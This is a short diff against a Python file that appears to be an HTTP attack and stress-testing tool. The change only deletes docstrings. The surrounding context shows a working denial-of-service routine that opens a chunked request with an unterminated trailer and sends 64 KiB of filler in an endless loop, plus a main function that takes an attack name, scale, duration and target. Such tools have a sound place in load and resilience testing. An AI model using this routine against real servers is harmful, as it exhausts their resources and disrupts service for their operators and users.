@@ -43,7 +43,6 @@ class Tally:
     longest: float = 0.0
 
     def add(self, line: str) -> None:
-        """Add what another process did, from a line of JSON."""
         other = json.loads(line)
         self.opened, self.refused = self.opened + other["opened"], self.refused + other["refused"]
         self.statuses.update({int(status): number for status, number in other["statuses"].items()})
@@ -143,7 +142,6 @@ async def endless_trailers(attacker: Attacker) -> None:
 
 
 async def endless_trailer(attacker: Attacker) -> None:
-    """Send one trailer without end."""
     await attacker.send(_CHUNKED + b"0\r\nX: ")
     while True:
         await attacker.send(2**16 * b"a")
@@ -355,7 +353,6 @@ async def _all(attack: Attack, target: Target, scale: float, seconds: float, tal
 
 
 def main(arguments: list[str]) -> int:
-    """Make an attack: name, scale, longest time [s] and target as JSON; print "begun" at the first, and the tally at the end."""
     import uvloop
 
     name, scale, seconds, place = arguments
